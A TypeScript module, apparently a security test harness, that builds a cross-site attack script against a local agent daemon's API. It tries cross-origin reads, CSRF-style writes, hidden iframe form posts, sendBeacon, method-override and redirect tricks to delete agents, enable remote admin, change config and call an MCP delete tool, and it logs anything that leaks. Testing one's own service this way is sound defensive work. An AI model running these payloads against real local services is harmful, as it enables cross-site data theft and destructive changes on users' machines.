/**
 * Attacks of a page on another site against the API, as text for the browser. The page records everything that it can read.
 */

export interface AttackTarget {
  /** URL of the API. */
  readonly api: string;
  /** An agent of that daemon, with a service that speaks WebSocket at `/chat`. */
  readonly aid: string;
  /** A page of the attacker that redirects to its query with the status that its path names; empty if there is none. */
  readonly redirect: string;
}

export interface Leak {
  readonly how: string;
  readonly what: string;
}

const SCRIPT = `async ({ api, aid, redirect }) => {
  const leaks = (globalThis.leaks = []);
  const attempts = [];
  const attempt = (how, act) => attempts.push((async () => act())()
    .then((what) => what && leaks.push({ how, what: String(what) }), () => {}));
  const body = document.body;

  // Reading with fetch and its relatives.
  const reads = ['/status', '/agents', '/agents/' + aid, '/agents/' + aid + '/export', '/config', '/metrics', '/docs',
    '/openapi.json', '/mcp/', '/aid/' + aid + '/', '/aid/' + aid + '/cas/' + 'a'.repeat(64), '/nowhere'];
  const read = (path, options) => attempt('fetch ' + path + ' ' + JSON.stringify(options), async () => {
    const answer = await fetch(api + path, options);
    return answer.type.startsWith('opaque') ? '' : answer.status + ' ' + await answer.text();
  });
  for (const path of reads)
    for (const mode of ['cors', 'no-cors', 'same-origin']) read(path, { mode, credentials: 'include' });
  read('/status', { headers: { authorization: 'Bearer x' } });
  read('/status', { headers: { range: 'bytes=0-1' } });
  read('/status', { mode: 'no-cors', redirect: 'manual', cache: 'no-store', referrerPolicy: 'unsafe-url' });
  attempt('XMLHttpRequest', () => new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.onload = () => resolve(request.status + ' ' + request.responseText);
    request.onerror = () => resolve('');
    request.open('GET', api + '/status');
    request.send();
  }));
  for (const path of ['/events', '/agents/' + aid + '/events', '/mcp/'])
    attempt('EventSource ' + path, () => new Promise((resolve) => {
      const source = new EventSource(api + path);
      source.onopen = () => resolve('open');
      source.onerror = () => { source.close(); resolve(''); };
    }));
  for (const path of ['/aid/' + aid + '/chat', '/mcp/', '/events'])
    attempt('WebSocket ' + path, () => new Promise((resolve) => {
      const socket = new WebSocket(api.replace('http', 'ws') + path);
      socket.onopen = () => resolve('open');
      socket.onclose = () => resolve('');
    }));

  // Changing something: simple requests first, which no preflight precedes.
  const book = JSON.stringify({ aliases: { [aid]: 'attacked' }, favorites: [] });
  const rpc = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'svc_agent_delete', arguments: { aid } } });
  const writes = [
    ['POST', '/identity/generate', ''],
    ['POST', '/agents/' + aid + '/acl/deny', JSON.stringify({ aid })],
    ['POST', '/agents/' + aid + '/heartbeat', '{}'],
    ['POST', '/mcp/call', JSON.stringify({ tool: 'svc_agent_delete', args: { aid } })],
    ['POST', '/mcp/', rpc],
    ['POST', '/aid/' + aid + '/written', 'attacked'],
    ['POST', '/agents/' + aid + '/cas?name=x.html', 'attacked'],
    ['PUT', '/node/address-book', book],
    ['PATCH', '/node/remote-admin', '{"enabled":true}'],
    ['PATCH', '/config', '{"auto_publish":false}'],
    ['DELETE', '/agents/' + aid, ''],
  ];
  const types = ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data', '', 'application/json'];
  for (const [method, path, text] of writes)
    for (const type of method === 'POST' ? types : ['application/json'])
      for (const mode of ['cors', 'no-cors'])
        read(path, { method, mode, credentials: 'include', body: new Blob([text], { type }), keepalive: text.length < 100 });
  read('/agents/' + aid + '?_method=DELETE', { method: 'POST', mode: 'no-cors', body: '_method=DELETE' });
  read('/agents/' + aid, { method: 'POST', headers: { 'x-http-method-override': 'DELETE', 'content-type': 'application/json' }, body: '{}' });
  for (const [method, path, text] of writes) {
    if (method !== 'POST') continue;
    for (const type of types) navigator.sendBeacon(api + path, new Blob([text], { type }));
    navigator.sendBeacon(api + path, text);
  }

  // Forms, into frames that nobody sees.
  const add = (tag, attributes, parent = body) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    parent.append(element);
    return element;
  };
  let frames = 0;
  const submit = (method, action, enctype, text) => {
    const name = 'frame' + frames++;
    add('iframe', { name });
    const form = add('form', { method, action, enctype, target: name });
    add('input', { name: text.slice(0, -1), value: '' }, form);
    form.submit();
  };
  for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data'])
    for (const [method, path, text] of writes) if (method === 'POST') submit('post', api + path, enctype, text);
  submit('get', api + '/agents', '', '');

  // Elements that load what they are given.
  const load = (tag, attribute, more = {}) => (path) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(more)) element.setAttribute(name, value);
    // Frames and preloads say that they are loaded whatever became of them.
    if (!['iframe', 'embed', 'object'].includes(tag) && more.rel !== 'preload')
      element.onload = element.onloadeddata = () => leaks.push({ how: tag + ' ' + path, what: 'loaded' });
    element.setAttribute(attribute, api + path);
    body.append(element);
  };
  for (const path of ['/docs/swagger-ui-bundle.js', '/openapi.json', '/aid/' + aid + '/'])
    for (const more of [{}, { type: 'module' }, { crossorigin: 'use-credentials' }]) load('script', 'src', more)(path);
  for (const path of ['/docs/swagger-ui.css', '/aid/' + aid + '/'])
    for (const rel of ['stylesheet', 'prefetch', 'modulepreload', 'manifest', 'icon']) load('link', 'href', { rel })(path);
  for (const kind of ['script', 'style', 'image', 'fetch', 'font', 'track'])
    load('link', 'href', { rel: 'preload', as: kind, crossorigin: '' })('/status');
  for (const tag of ['img', 'video', 'audio', 'iframe', 'embed'])
    for (const path of ['/status', '/docs', '/aid/' + aid + '/']) load(tag, 'src')(path);
  load('object', 'data')('/status');
  load('iframe', 'src', { credentialless: '' })('/docs');
  load('iframe', 'src', { sandbox: 'allow-scripts allow-same-origin' })('/docs');
  const video = add('video', { crossorigin: 'use-credentials' });
  add('track', { src: api + '/status', kind: 'subtitles', default: '' }, video).track.mode = 'showing';
  add('style', {}).textContent = '@import "' + api + '/docs/swagger-ui.css"; @font-face { font-family: f; src: url(' + api
    + '/status) } body { font-family: f; background: url(' + api + '/status); mask-image: url(' + api + '/status) }';
  add('script', { type: 'speculationrules' }).textContent = JSON.stringify({
    prefetch: [{ urls: [api + '/docs'], eagerness: 'immediate' }],
    prerender: [{ urls: [api + '/docs'], eagerness: 'immediate' }],
  });
  const bundle = api + '/docs/swagger-ui-bundle.js';
  attempt('import', () => import(bundle).then(() => 'ran'));
  attempt('worker', () => new Promise((resolve) => {
    const code = 'try { importScripts("' + bundle + '"); postMessage("ran") } catch { postMessage("") }';
    const worker = new Worker(URL.createObjectURL(new Blob([code])));
    worker.onmessage = ({ data }) => resolve(data);
    worker.onerror = () => resolve('');
  }));
  attempt('service worker', () => navigator.serviceWorker.register(api + '/aid/' + aid + '/').then(() => 'registered'));

  // Going there.
  const opened = [open(api + '/agents/' + aid), open(api + '/docs')];
  add('a', { href: api + '/agents', ping: api + '/agents/' + aid + '/heartbeat', target: 'frame0' }).click();
  add('a', { href: api + '/agents/' + aid + '/export', download: 'x', target: 'frame1' }).click();

  // By way of redirects, which keep method and body where they are 307 or 308.
  for (const status of redirect === '' ? [] : [302, 307, 308]) {
    const to = (path) => redirect + status + '?' + encodeURIComponent(api + path);
    attempt('redirect', async () => {
      const answer = await fetch(to('/status'));
      return answer.status + await answer.text();
    });
    attempt('redirect', async () => void await fetch(to('/identity/generate'), { method: 'POST', mode: 'no-cors', body: '{}' }));
    submit('post', to('/mcp/call'), 'text/plain', writes[3][2]);
    add('img', { src: to('/status') });
  }

  // What can be read in the end of all that was loaded: to be asked when everything has come.
  globalThis.readable = () => {
    const windows = [...document.querySelectorAll('iframe, object, embed')].map((e) => e.contentWindow).concat(opened);
    for (const other of windows) {
      try {
        const { URL, body } = other.document;
        if (URL !== 'about:blank') leaks.push({ how: 'window of ' + URL, what: body.innerText });
      } catch {}
    }
    for (const { name, responseStatus, decodedBodySize } of performance.getEntriesByType('resource'))
      if (name.startsWith(api) && responseStatus + decodedBodySize > 0)
        leaks.push({ how: 'timing of ' + name, what: 'timing ' + (responseStatus || decodedBodySize) });
    return leaks;
  };
  await Promise.all(attempts);
}`;

/** An expression for the attacking page: a promise that settles after all finite attacks. */
export function pageAttacks(target: AttackTarget): string {
  return `(${SCRIPT})(${JSON.stringify(target)})`;
}

/** An expression for the same page: the `Leak`s, once all requests are answered. */
export const READABLE = 'readable()';
